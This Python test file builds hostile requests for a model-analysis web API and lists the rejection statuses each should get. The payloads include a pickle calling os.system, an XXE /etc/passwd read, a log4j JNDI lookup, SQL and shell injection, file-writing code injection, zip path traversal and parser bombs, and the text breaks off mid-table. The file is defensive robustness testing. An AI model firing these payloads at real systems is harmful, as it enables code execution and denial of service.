"""Hostile requests, each with what it must be answered: a table for the client without a server, one for raw sockets."""

import base64
import io
import json
import struct
import zipfile
import zlib
from typing import NamedTuple

import numpy as np

from tests.web.attacks_input import inflating


class Attack(NamedTuple):
    """A request, and the statuses that are right for it."""

    name: str
    body: bytes
    right: tuple[int, ...] = (422,)
    path: str = "/v1/analyze"
    method: str = "POST"
    headers: dict[str, str] = {}


DENSE = {"type": "Dense", "units": 4}
JSON = {"Content-Type": "application/json"}
BAD = (400, 422)
ANY = (200, 400, 422)  # harmless either way


def stack(*layers, shape=(3,), **more):
    return {"input_shape": list(shape), "layers": list(layers or [DENSE]), **more}


def raw(*parts):
    return b"".join(part if isinstance(part, bytes) else str(part).encode("utf-8", "surrogatepass") for part in parts)


def doc(value):
    return json.dumps(value).encode()


def listed(value, one, count):
    """A document with a list of many equal values where it says "*": they are written once."""
    return doc(value).replace(b'"*"', b"[" + b",".join([doc(one)] * count) + b"]")


def run(model=None, **more):
    return doc({"model": model or stack(), "inputs": {"seed": 1}, **more})


def syntax():
    """Text that is no JSON, or JSON that no two readers take alike."""
    good = '{"input_shape": [3], "layers": [{"type": "Dense", "units": 4}]}'
    texts = {
        "empty": "",
        "spaces": " \n\t ",
        "brace": "{",
        "bracket": "[",
        "half": good[:-1],
        "twice": good + good,
        "comma": good[:-1] + ",}",
        "comment": "/* a */" + good,
        "line-comment": good + "// b",
        "single-quotes": good.replace('"', "'"),
        "nan": '{"input_shape": [NaN], "layers": [{"type": "Dense", "units": 4}]}',
        "infinity": good.replace("3", "Infinity"),
        "minus-infinity": good.replace("3", "-Infinity"),
        "1e400": good.replace("3", "1e400"),
        "-1e400": good.replace("3", "-1e400"),
        "1e-400": good.replace("3", "1e-400"),
        "minus-zero": good.replace("3", "-0"),
        "minus-zero-float": good.replace("3", "-0.0"),
        "plus": good.replace("3", "+3"),
        "leading-zero": good.replace("3", "03"),
        "hex": good.replace("3", "0x3"),
        "underscore": good.replace("3", "3_0"),
        "bare-point": good.replace("3", ".5"),
        "trailing-point": good.replace("3", "3."),
        "float-dim": good.replace("3", "3.0"),
        "big-float": good.replace("3", "1e30"),
        "dim-string": good.replace("3", '"3"'),
        "dim-true": good.replace("3", "true"),
        "negative": good.replace("3", "-3"),
        "digits-301": good.replace("3", "9" * 301),
        "digits-5000": good.replace("3", "9" * 5000),
        "digits-1M": good.replace("3", "9" * 1_000_000),
        "float-digits": good.replace("3", "0." + "9" * 100_000),
        "exponent": good.replace("3", "1e" + "9" * 10_000),
        "key-twice": '{"layers": [], "layers": [{"type": "Dense", "units": 4}], "input_shape": [3]}',
        "key-twice-inside": good.replace('"units": 4', '"units": 4, "units": 5'),
        "key-twice-escaped": good.replace('"units": 4', '"units": 4, "\\u0075nits": 5'),
        "control": good.replace("Dense", "De\nse"),
        "nul": good.replace("Dense", "De\0se"),
        "escaped-nul": good.replace("Dense", "De\\u0000se"),
        "bad-escape": good.replace("Dense", "\\x44ense"),
        "half-escape": good.replace("Dense", "\\u00"),
        "surrogate": good.replace("Dense", "\\ud800"),
        "pair-turned": good.replace("Dense", "\\udc00\\ud800"),
        "pair": good.replace("Dense", "\\ud83d\\ude00"),
        "surrogate-key": good.replace("units", "\\udfff"),
        "true": "true",
        "null": "null",
        "number": "17",
        "string": '"Dense"',
        "string-in-string": json.dumps(json.dumps(json.dumps(good))),
        "list": "[]",
        "list-of-lists": "[[], []]",
        "empty-object": "{}",
        "proto": '{"__proto__": {"layers": []}, "input_shape": [3]}',
        "class": '{"__class__": "os.system", "layers": []}',
        "ref": '{"$ref": "file:///etc/passwd"}',
        "yaml": "layers: [!!python/object/apply:os.system ['id']]",
        "xml": '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
        "html": "<script>alert(1)</script>",
        "template": "{{7*7}}",
        "log4j": "${jndi:ldap://x/a}",
        "sql": "' OR 1=1 --",
        "shell": "$(id); `id`",
        "format": "%s%s%n {0.__class__}",
        "bom-twice": "\ufeff\ufeff" + good,
        "nbsp": "\u00a0" + good,
        "separator": good.replace("Dense", "De\u2028nse"),
        "rtl": good.replace("Dense", "\u202eesneD"),
        "fullwidth-digit": good.replace("3", "３"),
    }
    fine = {"list", "template", "pair", "minus-zero", "yaml", "string-in-string"}
    for name, text in texts.items():
        yield Attack(f"text-{name}", raw(text), ANY if name in fine else (411,) if not text else BAD)
    for name, body in {
        "latin-1": good.replace("Dense", "D\xe9nse").encode("latin-1"),
        "overlong": good.encode().replace(b"Dense", b"\xc0\xafense"),
        "surrogate-bytes": good.encode().replace(b"Dense", b"\xed\xa0\x80"),
        "utf-16": good.encode("utf-16"),
        "utf-32": good.encode("utf-32"),
        "continuation": b"\x80" + good.encode(),
        "ff": b"\xff" * 1000,
        "cut-utf8": good.encode()[:-2] + "é".encode()[:1],
        "gzip": zlib.compress(good.encode()),
        "pickle": b"\x80\x04\x95\x1d\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c\x02id\x94\x85\x94R\x94.",
        "elf": b"\x7fELF" + bytes(100),
        "zeros": bytes(10_000),
        "marshal": b"\xe3" + bytes(50),
        "hdf5": b"\x89HDF\r\n\x1a\n" + bytes(200),
    }.items():
        yield Attack(f"bytes-{name}", body, BAD)


def bombs():
    """Much out of little."""
    for name, text in {
        "lists": "[" * 100_000,
        "lists-closed": "[" * 5000 + "]" * 5000,
        "objects": '{"a":' * 100_000,
        "objects-closed": '{"a":' * 500 + "1" + "}" * 500,
        "depth-101": '{"layers":' + "[" * 100 + "]" * 100 + "}",
        "depth-in-string": json.dumps("[" * 5000),
        "depth-in-model": '{"model":' * 200 + "1" + "}" * 200,
        "many-objects": '{"layers":[' + "{}," * 1_100_000 + "{}]}",
        "many-lists": '{"layers":[' + "[]," * 1_100_000 + "[]]}",
        "many-numbers": '{"layers":[' + "1," * 1_000_000 + "1]}",
        "many-keys": "{" + ",".join(f'"{n}":1' for n in range(100_000)) + "}",
        "long-key": '{"' + "k" * 1_000_000 + '":1}',
        "long-string": '{"name":"' + "n" * 5_000_000 + '","layers":[]}',
        "long-type": '{"input_shape":[3],"layers":[{"type":"' + "D" * 1_000_000 + '"}]}',
        "colons": '{"name":"' + ":" * 5_000_000 + '","layers":[]}',
        "backslashes": '"' + "\\\\" * 2_000_000 + '"',
        "quotes": '"' * 1_000_000,
    }.items():
        yield Attack(f"bomb-{name}", raw(text), BAD)
    yield Attack("bomb-layers", doc(stack(*[DENSE] * 20_001)))
    nested = {"type": "Sequential", "layers": [DENSE, DENSE]}
    for _ in range(13):  # a megabyte
        nested = {"type": "Sequential", "layers": [nested, nested]}
    yield Attack("bomb-nested-models", doc(stack(nested)), (200, 422, 503))
    deep = dict(DENSE)
    for _ in range(60):
        deep = {"type": "Sequential", "layers": [deep]}
    yield Attack("bomb-deep-models", doc(stack(deep)), (422,))
    wrapped = dict(DENSE)
    for _ in range(80):
        wrapped = {"type": "TimeDistributed", "layer": wrapped}
    yield Attack("bomb-wrappers", doc(stack(wrapped, shape=(2,) * 60 + (3,))), ANY)
    keras = {"class_name": "Dense", "config": {"units": 2}}
    for _ in range(20):
        keras = {"class_name": "Sequential", "config": {"layers": [keras]}}
    yield Attack("bomb-keras-deep", doc(keras), BAD)
    yield Attack("bomb-keras-layers", listed({"class_name": "Sequential", "config": {"layers": "*"}}, keras, 20_001))
    yield Attack("bomb-unknown-types", doc(stack(*[{"type": f"Densx{n}"} for n in range(3000)])), (422, 503))
    yield Attack("bomb-unknown-fields", doc(stack({**DENSE, **{f"unitz{n}": 1 for n in range(5000)}})), (422, 503))
    yield Attack("bomb-missing-inputs", doc(stack(*[{**DENSE, "inputs": f"no{n}"} for n in range(3000)])), (422, 503))
    yield Attack("bomb-axes", doc(stack(shape=[2] * 100_000)))
    yield Attack("bomb-shape-sizes", doc(stack(shape=[10**299] * 64)))
    yield Attack("bomb-join", doc(stack({"type": "Add", "inputs": ["input"] * 3_000})), (200, 503))
    yield Attack("bomb-names", doc(stack(*[{**DENSE, "name": "x" * 499 + str(n)} for n in range(9)])), ANY)


def graphs():
    """Graphs that loop, and edges to nowhere."""

    def graph(*layers, **more):
        return doc({"input_shape": [3], "layers": list(layers), **more})

    a, b = ({**DENSE, "name": name} for name in "ab")
    yield Attack("graph-itself", graph({**a, "inputs": "a"}))
    yield Attack("graph-two", graph({**a, "inputs": "b"}, {**b, "inputs": "a"}))
    yield Attack("graph-ring", graph(*[{**DENSE, "name": f"n{i}", "inputs": f"n{(i + 1) % 500}"} for i in range(500)]))
    yield Attack("graph-tail", graph(a, {**b, "inputs": "b"}, outputs=["a"]))
    yield Attack("graph-nowhere", graph({**a, "inputs": "nobody"}))
    yield Attack("graph-output-nowhere", graph(a, outputs=["nobody"]))
    yield Attack("graph-output-index", graph(a, outputs=["a:99999"]))
    yield Attack("graph-output-huge", graph(a, outputs=["a:" + "9" * 300]))
    yield Attack("graph-output-negative", graph(a, outputs=["a:-1"]))
    yield Attack("graph-output-number", graph(a, outputs=[1]))
    yield Attack("graph-no-outputs", graph(a, outputs=[]))
    yield Attack("graph-no-layers", graph())
    yield Attack("graph-name-twice", graph(a, a))
    yield Attack("graph-name-of-input", graph({**a, "name": "input"}))
    yield Attack("graph-name-slash", graph({**a, "name": "../../etc/passwd"}))
    yield Attack("graph-name-number", graph({**a, "name": 7}))
    yield Attack("graph-name-list", graph({**a, "name": [[[]]]}))
    yield Attack("graph-name-empty", graph({**a, "name": ""}))
    yield Attack("graph-inputs-object", graph({**a, "inputs": {"query": {"x": 1}}}))
    yield Attack("graph-inputs-deep", graph({**a, "inputs": [[["input"]]]}))
    yield Attack("graph-inputs-null", graph({**a, "inputs": None}))
    yield Attack("graph-inputs-empty", graph({**a, "inputs": []}))
    for name, value in {
        "number": 1,
        "string": "x",
        "object": {},
        "null": None,
        "nested": [[]],
        "mixed": [1, None, "x", {}],
    }.items():
        yield Attack(f"graph-layers-{name}", doc({"input_shape": [3], "layers": value}))
    for name, value in {
        "number": 1,
        "string": "28,28",
        "object": {"a": 1},
        "nested": [[3]],
        "negative": [-1],
        "float": [3.5],
        "true": [True],
        "string-in": ["3"],
    }.items():
        yield Attack(f"shape-{name}", doc({"input_shape": value, "layers": [DENSE]}), ANY if name == "number" else BAD)
    head = {
        "class_name": "InputLayer",
        "name": "x",
        "config": {"batch_shape": [None, 3], "name": "x"},
        "inbound_nodes": [],
    }

    def functional(*layers, outputs=(("d", 0, 0),)):
        config = {
            "name": "m",
            "layers": [head, *layers],
            "input_layers": [["x", 0, 0]],
            "output_layers": [list(one) for one in outputs],
        }
        return doc({"class_name": "Functional", "config": config})

    def dense(node, name="d", **config):
        return {
            "class_name": "Dense",
            "name": name,
            "config": {"units": 2, "name": name, **config},
            "inbound_nodes": node,
        }

    for name, node in {
        "loop": [[["d", 0, 0, {}]]],
        "later": [[["e", 0, 0, {}]]],
        "index": [[["x", 10**300, 0, {}]]],
        "negative": [[["x", -1, -1, {}]]],
        "string": "x",
        "number": 7,
        "nested": [[[[[[["x"]]]]]]],
        "short": [[["x"]]],
        "null": [None],
        "object": [{"args": 1}],
        "args": [{"args": [{"class_name": "__keras_tensor__", "config": {}}], "kwargs": {}}],
        "history": [
            {"args": [{"class_name": "__keras_tensor__", "config": {"keras_history": ["x", "y", {}]}}], "kwargs": {}}
        ],
        "kwargs": [[["x", 0, 0, {"mask": {"class_name": "__keras_tensor__"}}]]],
    }.items():
        yield Attack(f"keras-node-{name}", functional(dense(node)), (200, 422) if name in ("kwargs",) else (422,))
    yield Attack("keras-ring", functional(dense([[["e", 0, 0, {}]]]), dense([[["d", 0, 0, {}]]], "e")))
    yield Attack("keras-output-nowhere", functional(dense([[["x", 0, 0, {}]]]), outputs=(("q", 0, 0),)))
    yield Attack("keras-output-node", functional(dense([[["x", 0, 0, {}]]]), outputs=(("d", 99, 0),)))
    yield Attack("keras-output-type", functional(dense([[["x", 0, 0, {}]]]), outputs=((1, 2, 3),)))
    for name, value in {
        "null": None,
        "list": [],
        "string": "Sequential",
        "number": 1,
        "layers-null": {"layers": None},
        "layers-object": {"layers": {}},
        "layer-string": {"layers": ["Dense"]},
        "layer-null": {"layers": [None]},
    }.items():
        yield Attack(f"keras-config-{name}", doc({"class_name": "Sequential", "config": value}))
    for name in (
        "Lambda",
        "TFSMLayer",
        "os.system",
        "__builtins__",
        "Functional",
        "Model",
        "Custom>evil",
        "Sequential" * 40,
        "",
    ):
        layer = {
            "class_name": name,
            "module": "builtins",
            "registered_name": name,
            "config": {"function": {"class_name": "__lambda__", "config": {"code": "gASVHQ=="}}, "fn": "eval"},
        }
        yield Attack(f"keras-class-{name[:20]}", doc({"class_name": "Sequential", "config": {"layers": [head, layer]}}))


def numbers():
    """Counts that overflow, and arguments out of all bounds."""
    huge = 10**299
    for name, layers, shape, right in (
        ("units", [{"type": "Dense", "units": huge}], (huge,), ANY),
        ("units-zero", [{"type": "Dense", "units": 0}], (3,), (422,)),
        ("units-negative", [{"type": "Dense", "units": -(2**63)}], (3,), (422,)),
        ("units-float", [{"type": "Dense", "units": 1e300}], (3,), (422,)),
        ("units-true", [{"type": "Dense", "units": True}], (3,), (422,)),
        ("units-list", [{"type": "Dense", "units": [4]}], (3,), (422,)),
        ("units-null", [{"type": "Dense", "units": None}], (3,), (422,)),
        ("units-string", [{"type": "Dense", "units": "4"}], (3,), (422,)),
        ("int64", [{"type": "Dense", "units": 2**63}], (2**63,), ANY),
        ("uint64", [{"type": "Dense", "units": 2**64}], (2**64 + 1,), ANY),
        ("kernel", [{"type": "Conv2D", "filters": 1, "kernel_size": huge}], (9, 9, 1), (422,)),
        ("strides", [{"type": "Conv2D", "filters": 1, "kernel_size": 1, "strides": huge}], (9, 9, 1), ANY),
        ("strides-zero", [{"type": "Conv2D", "filters": 1, "kernel_size": 1, "strides": 0}], (9, 9, 1), (422,)),
        ("dilation", [{"type": "Conv2D", "filters": 1, "kernel_size": 2, "dilation_rate": huge}], (9, 9, 1), (422,)),
        ("groups", [{"type": "Conv2D", "filters": 7, "kernel_size": 1, "groups": 3}], (9, 9, 4), (422,)),
        ("groups-huge", [{"type": "Conv2D", "filters": 7, "kernel_size": 1, "groups": huge}], (9, 9, 4), (422,)),
        ("padding", [{"type": "ZeroPadding2D", "padding": huge}], (9, 9, 1), ANY),
        ("cropping", [{"type": "Cropping2D", "cropping": huge}], (9, 9, 1), (422,)),
        ("upsampling", [{"type": "UpSampling2D", "size": huge}], (9, 9, 1), ANY),
        ("repeat", [{"type": "RepeatVector", "n": huge}], (9,), ANY),
        ("reshape", [{"type": "Reshape", "target_shape": [huge] * 20}], (3,), (422,)),
        ("reshape-two-unknown", [{"type": "Reshape", "target_shape": [-1, -1]}], (3,), (422,)),
        ("reshape-zero", [{"type": "Reshape", "target_shape": [0, -1]}], (3,), (422,)),
        ("reshape-1e5", [{"type": "Reshape", "target_shape": [1] * 100_000}], (3,), (422,)),
        ("permute", [{"type": "Permute", "dims": list(range(1, 10_000))}], (3,), (422,)),
        ("rate", [{"type": "Dropout", "rate": 1e308}], (3,), (422,)),
        ("axis", [{"type": "Softmax", "axis": huge}], (3,), (422,)),
        ("axis-list", [{"type": "LayerNormalization", "axis": [-1] * 10_000}], (3,), BAD),
        ("embedding", [{"type": "Embedding", "input_dim": huge, "output_dim": huge}], (3,), ANY),
        (
            "heads",
            [{"type": "MultiHeadAttention", "num_heads": huge, "key_dim": huge, "inputs": ["input", "input"]}],
            (3, 4),
            ANY,
        ),
        ("einsum", [{"type": "EinsumDense", "equation": "a" * 1_000_000 + ",b->c", "output_shape": [1]}], (3,), (422,)),
        ("einsum-dots", [{"type": "EinsumDense", "equation": "." * 100_000, "output_shape": [1]}], (3,), (422,)),
        (
            "einsum-comma",
            [{"type": "EinsumDense", "equation": "," * 100_000 + "->", "output_shape": [1]}],
            (3,),
            (422,),
        ),
        ("lstm-steps", [{"type": "LSTM", "units": 3}], (huge, 3), ANY),
        ("activation", [{"type": "Activation", "activation": "__import__('os').system('id')"}], (3,), (422,)),
        (
            "activation-deep",
            [
                {
                    "type": "Activation",
                    "activation": {
                        "class_name": "Activation",
                        "config": {"activation": {"class_name": "Activation", "config": {}}},
                    },
                }
            ],
            (3,),
            BAD,
        ),
        (
            "initializer",
            [{**DENSE, "kernel_initializer": {"class_name": "os.system", "config": {"cmd": "id"}}}],
            (3,),
            (422,),
        ),
        (
            "custom",
            [{"type": "Custom", "output_shape": [huge], "params": huge, "macs": huge, "flops": -1}],
            (3,),
            (422,),
        ),
        ("batch-norm-axis", [{"type": "BatchNormalization", "axis": -99}], (3,), (422,)),
        ("empty-axes", [DENSE], (0, 0, 0), ANY),
        ("unknown-axes", [{"type": "Flatten"}, DENSE], (None, None), (200, 422)),
    ):
        yield Attack(f"count-{name}", doc(stack(*layers, shape=shape)), right)


def code():
    """Code that would do something if it were run."""
    for name, text in {
        "import": "import os; os.system('touch {pwned}')",
        "from": "from os import system\nsystem('touch {pwned}')",
        "dunder": "__import__('os').system('touch {pwned}')",
        "open": "open('{pwned}', 'w').write('x')",
        "eval": "eval(\"open('{pwned}','w')\")",
        "exec": "exec(\"open('{pwned}','w')\")",
        "argument": "Dense(open('{pwned}', 'w'), input_dim=3)",
        "format": "Dense(f\"{{open('{pwned}','w')}}\", input_dim=3)",
        "lambda": "(lambda: open('{pwned}', 'w'))()",
        "comprehension": "[open('{pwned}', 'w') for _ in range(3)]",
        "walrus": "(x := open('{pwned}', 'w'))",
        "decorator": "@open('{pwned}', 'w')\ndef f(): pass",
        "class": "class A(open('{pwned}', 'w')): pass",
        "default": "def f(x=open('{pwned}', 'w')): pass",
        "with": "with open('{pwned}', 'w'): pass",
        "while": "while True: pass",
        "for": "for i in range(10**9): Dense(i)",
        "if": "if True:\n  open('{pwned}', 'w')",
        "assert": "assert open('{pwned}', 'w')",
        "try": "try:\n  1/0\nexcept Exception:\n  open('{pwned}','w')",
        "match": "match open('{pwned}','w'):\n  case _: pass",
        "subscript": "Dense([].__class__.__base__.__subclasses__()[40]('{pwned}','w'), input_dim=3)",
        "attribute": "Dense(3, input_dim=().__class__.__mro__)",
        "global": "global x\nx = 1",
        "del": "del Dense",
        "yield": "yield open('{pwned}','w')",
        "await": "await open('{pwned}','w')",
        "star": "Dense(*open('{pwned}','w'))",
        "two-star": "Dense(**open('{pwned}','w'))",
        "print": "print(open('{pwned}','w'))",
        "lambda-layer": "Lambda(lambda x: open('{pwned}','w'), input_shape=(3,))",
        "load": "keras.models.load_model('/etc/passwd')",
        "pickle": "pickle.loads(b'cposix')",
        "yaml": "yaml.load('!!python/object/apply:os.system [id]')",
        "model-self": "m=Sequential()\nm.add(m)",
        "model-none": "Model()",
        "model-swap": "x=Input((3,))\nModel(x, x)",
        "power": "Dense(9**9**9, input_dim=3)",
        "shift": "Dense(1<<10**9, input_dim=3)",
        "multiply": "Dense('a'*10**10, input_dim=3)",
        "list-multiply": "Dense([1]*10**10, input_dim=3)",
        "zero": "Dense(1/0, input_dim=3)",
        "modulo": "Dense('%1000000000d' % 1, input_dim=3)",
        "float": "Dense(1e999, input_dim=3)",
        "nan": "Dense(float('nan'), input_dim=3)",
        "squares": "x=3\n" + "x=x*x\n" * 60 + "Dense(x, input_dim=3)",
        "doubling": "a0=[1,2]\n" + "".join(f"a{i}=[a{i - 1},a{i - 1}]\n" for i in range(1, 60)) + "Dense(a59)",
        "models": "m0=Sequential([Dense(3,input_dim=3)])\n"
        + "".join(f"m{n}=Sequential([m{n - 1},m{n - 1}])\n" for n in range(1, 40)),
        "parens": "(" * 50_000,
        "brackets": "Dense(" + "[" * 150 + "]" * 150 + ")",
        "minus": "Dense(" + "-" * 50_000 + "1)",
        "plus": "Dense(" + "1+" * 50_000 + "1)",
        "calls": "f" + "()" * 50_000,
        "dots": "a" + ".b" * 50_000,
        "not": "not " * 50_000 + "1",
        "strings": "Dense(3, name=" + "'a'" * 50_000 + ")",
        "digits": "Dense(" + "9" * 10_000 + ", input_dim=3)",
        "hex": "Dense(0x" + "f" * 10_000 + ", input_dim=3)",
        "binary": "Dense(0b" + "1" * 100_000 + ", input_dim=3)",
        "underscores": "Dense(" + "9_" * 5000 + "9, input_dim=3)",
        "nul": "Dense(3)\0",
        "form-feed": "\f\fDense(3)",
        "tabs": "\tDense(3)\n  Dense(4)",
        "coding": "# -*- coding: utf-7 -*-\n+AEQ-ense(3)",
        "bytes": "Dense(b'3')",
        "ellipsis": "Dense(...)",
        "long-line": "Dense(3)" + " " * 900_000,
        "too-long": "#" * 1_000_001,
        "unicode-name": "Ⅾense(3)",
        "unknown": "".join(f"Densx{n}(3)\n" for n in range(1000)),
        "backslash": "Dense(3)\\",
        "unterminated": "'''Dense(3)",
        "dict-unhashable": "Dense({[]: 2})",
        "dict-star": "Dense({**a})",
        "set": "Dense({1, 2})",
        "complex": "Dense(1j)",
        "slice": "Dense(x[1:2])",
        "starred": "a, *b = Dense(3)",
        "chain": "a = b = c = Dense(3, input_dim=3)",
    }.items():
        harmless = name in (
            "chain",
            "squares",
            "long-line",
            "print",
            "strings",
            "unicode-name",
            "coding",
            "model-swap",
            "walrus",
            "del",
            "global",
        )
        yield Attack(
            f"code-{name}", raw(text), ANY if harmless else (400, 422, 503), headers={"Content-Type": "text/x-python"}
        )


def npy(header, data=b"", magic=b"\x93NUMPY\x01\x00"):
    text = header.encode() + b"\n"
    return magic + struct.pack("<H", len(text)) + text + data


def part(name, body, boundary="x", extra=""):
    return raw(f'--{boundary}\r\nContent-Disposition: form-data; name="{name}"{extra}\r\n\r\n', body, "\r\n")


def zipped(**members):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, body in members.items():
            archive.writestr(name, body)
    return out.getvalue()


def tensors():
    """Tensors and files of tensors that lie about what they hold."""

    def forward(inputs, **more):
        return doc({"model": stack(), "inputs": inputs, **more})

    ok = base64.b64encode(np.zeros((1, 3), "<f4").tobytes()).decode()
    for name, tensor in {
        "short": {"shape": [1, 3], "datatype": "FP32", "data": [1, 2]},
        "long": {"shape": [1, 3], "datatype": "FP32", "data": [1] * 1000},
        "shape-huge": {"shape": [10**18, 3], "datatype": "FP32", "b64": ok},
        "shape-overflow": {"shape": [2**32, 2**32], "datatype": "FP32", "b64": ok},
        "shape-digits": {"shape": [10**299] * 60, "datatype": "FP32", "b64": ok},
        "shape-digits-data": {"shape": [10**299] * 20, "datatype": "FP32", "data": [1]},
        "shape-axes": {"shape": [1] * 100_000, "datatype": "FP32", "data": [1]},
        "shape-negative": {"shape": [-1, -3], "datatype": "FP32", "data": [1, 2, 3]},
        "shape-zero": {"shape": [0, 10**18], "datatype": "FP32", "data": []},
        "shape-float": {"shape": [1.0, 3], "datatype": "FP32", "data": [1, 2, 3]},
        "shape-true": {"shape": [True, 3], "datatype": "FP32", "data": [1, 2, 3]},
        "shape-string": {"shape": "13", "datatype": "FP32", "data": [1, 2, 3]},
        "shape-deep": {"shape": [[1, 3]], "datatype": "FP32", "data": [1, 2, 3]},
        "axes": {"shape": [1] * 100 + [3], "datatype": "FP32", "data": [1, 2, 3]},
        "type": {"shape": [1, 3], "datatype": "OBJECT", "data": [1, 2, 3]},
        "type-bytes": {"shape": [1, 3], "datatype": "BYTES", "data": ["a", "b", "c"]},
        "type-null": {"shape": [1, 3], "datatype": None, "data": [1, 2, 3]},
        "base64": {"shape": [1, 3], "datatype": "FP32", "b64": "!!!!"},
        "base64-cut": {"shape": [1, 3], "datatype": "FP32", "b64": ok[:-3]},
        "base64-unicode": {"shape": [1, 3], "datatype": "FP32", "b64": "é" * 16},
        "base64-number": {"shape": [1, 3], "datatype": "FP32", "b64": 7},
        "both": {"shape": [1, 3], "datatype": "FP32", "b64": ok, "data": [1, 2, 3]},
        "neither": {"shape": [1, 3], "datatype": "FP32"},
        "strings": {"shape": [1, 3], "datatype": "FP32", "data": ["1", "2", "3"]},
        "objects": {"shape": [1, 3], "datatype": "FP32", "data": [{}, {}, {}]},
        "nulls": {"shape": [1, 3], "datatype": "FP32", "data": [None] * 3},
        "big": {"shape": [1, 3], "datatype": "INT64", "data": [2**63] * 3},
        "uint": {"shape": [1, 3], "datatype": "UINT8", "data": [256, -1, 0]},
        "fractions": {"shape": [1, 3], "datatype": "INT32", "data": [0.5] * 3},
        "ragged": [[1, 2, 3], [1, 2]],
        "deep": json.loads("[" * 80 + "1" + "]" * 80),
        "empty": [],
        "scalar": 7,
        "string": "abc",
        "binary-size": {"shape": [1, 3], "datatype": "FP32", "parameters": {"binary_data_size": 12}},
        "parameters": {
            "shape": [1, 3],
            "datatype": "FP32",
            "data": [1, 2, 3],
            "parameters": {"shared_memory_region": "x"},
        },
    }.items():
        yield Attack(f"tensor-{name}", forward([tensor]), path="/v1/forward")
    for name, inputs in {
        "null": None,
        "number": 7,
        "string": "x",
        "seed-huge": {"seed": 10**299},
        "seed-negative": {"seed": -1},
        "seed-float": {"seed": 1.5},
        "seed-null": {"seed": None},
        "seed-list": {"seed": [1]},
        "none": [],
        "many": [[[1, 2, 3]]] * 1000,
        "named": {"nobody": [[1, 2, 3]]},
        "mixed": {"seed": 1, "input": [[1, 2, 3]]},
    }.items():
        yield Attack(f"given-{name}", forward(inputs), (200, 422) if name == "seed-huge" else (422,), "/v1/forward")
    for name, more in {
        "weights-nowhere": {"weights": {"x/kernel": [[1]]}},
        "weights-many": {"weights": {f"w{n}": 1 for n in range(3000)}},
        "weights-short": {"weights": [[[1.0] * 4] * 3]},
        "weights-seed": {"weights": {"seed": "x"}},
        "weights-string": {"weights": "dense"},
        "slashes": {"weights": {"/".join("a" * 249): 1}},
        "rtol-negative": {"rtol": -1},
        "rtol-huge": {"rtol": 10**299},
        "rtol-null": {"rtol": [1]},
        "expected-shape": {"expected": [[1, 2]]},
        "expected-name": {"expected": {"nobody": [[1]]}},
        "expected-number": {"expected": 7},
        "layers-nowhere": {"return_layers": ["nobody"]},
        "layers-many": {"return_layers": [f"n{i}" for i in range(3000)]},
        "layers-type": {"return_layers": [1, {}, None]},
        "layers-string": {"return_layers": "dense"},
        "stats-number": {"stats": 7},
        "dtype": {"dtype": "float128"},
        "dtype-list": {"dtype": ["float32"]},
        "unknown-key": {"weigths": {}},
        "outputs-nowhere": {"outputs": [{"name": "nobody"}]},
        "outputs-type": {"outputs": {"dense": 1}},
    }.items():
        yield Attack(
            f"forward-{name}", run(**more), ANY if name in ("rtol-huge", "outputs-type") else (422,), "/v1/forward"
        )
    for name, layers, shape in (
        ("memory", [{"type": "Dense", "units": 10**9}], (10**9,)),
        ("output", [{"type": "RepeatVector", "n": 10**8}], (9,)),
        ("steps", [{"type": "LSTM", "units": 1}], (10**7, 1)),
        ("flops", [{"type": "Dense", "units": 10**6}], (10**6,)),
        ("window", [{"type": "MaxPooling1D", "pool_size": 10**9, "padding": "same"}], (9, 2)),
        ("axis", [{"type": "Identity"}], (2**62,)),
        ("padding", [{"type": "ZeroPadding1D", "padding": 10**12}], (3, 1)),
        ("resize", [{"type": "Resizing", "height": 10**6, "width": 10**6}], (9, 9, 1)),
        ("upsample", [{"type": "UpSampling2D", "size": 10**5}], (9, 9, 1)),
        ("unknown", [{"type": "Dense", "units": 3}], (None, 3)),
    ):
        yield Attack(
            f"pass-{name}", doc({"model": stack(*layers, shape=shape), "inputs": {"seed": 1}}), (422,), "/v1/forward"
        )
    form = {"Content-Type": "multipart/form-data; boundary=x"}
    model = part("model", json.dumps(stack()))
    good = io.BytesIO()
    np.save(good, np.zeros((1, 3), "f4"))
    good = good.getvalue()
    arrays = {
        "npy-huge": npy("{'descr': '<f4', 'fortran_order': False, 'shape': (100000000000, 1000)}"),
        "npy-overflow": npy("{'descr': '<f4', 'fortran_order': False, 'shape': (4294967296, 4294967296)}"),
        "npy-negative": npy("{'descr': '<f4', 'fortran_order': False, 'shape': (-1, 3)}"),
        "npy-short": good[:-4],
        "npy-long": good + b"x" * 100,
        "npy-object": npy(
            "{'descr': '|O', 'fortran_order': False, 'shape': (1,)}", b"\x80\x04cposix\nsystem\n(S'id'\ntR."
        ),
        "npy-eval": npy("{'descr': '<f4', 'fortran_order': False, 'shape': (__import__('os').system('id'),)}"),
        "npy-deep": npy("(" * 5000),
        "npy-header": npy("{}"),
        "npy-cut": b"\x93NUMPY",
        "npy-version": good.replace(b"NUMPY\x01", b"NUMPY\x09"),
        "npy-struct": npy("{'descr': [('a', '<f4'), ('b', 'O')], 'fortran_order': False, 'shape': (1,)}", bytes(8)),
        "npy-string": npy("{'descr': '<U1000000', 'fortran_order': False, 'shape': (1000,)}"),
        "npy-digits": npy("{'descr': '<f4', 'fortran_order': False, 'shape': (" + "9" * 5000 + ",)}"),
        "npy-shape": npy("{'descr': '<f4', 'fortran_order': False, 'shape': (" + ("9" * 200 + ",") * 31 + ")}"),
        "npy-long-header": b"\x93NUMPY\x02\x00" + struct.pack("<I", 2**31) + b"{",
        "npz-empty": zipped(),
        "npz-bomb": inflating(
            "a.npy", npy("{'descr': '<f4', 'fortran_order': False, 'shape': (50000000,)}"), 50_000_000
        ),
        "npz-traversal": zipped(**{"../../etc/cron.d/x.npy": good}),
        "npz-absolute": zipped(**{"/etc/passwd": b"x"}),
        "npz-no-npy": zipped(**{"a.txt": b"x"}),
        "npz-cut": zipped(**{"a.npy": good})[:-30],
        "npz-lies": zipped(**{"a.npy": good}).replace(struct.pack("<I", len(good)), struct.pack("<I", 2**31 - 1)),
        "zip-magic": b"PK\x03\x04" + bytes(100),
        "zip-end": b"PK\x05\x06" + b"\xff" * 18,
        "safetensors-huge": struct.pack("<Q", 2**63) + b"{}",
        "safetensors-long": struct.pack("<Q", 100) + b"{}",
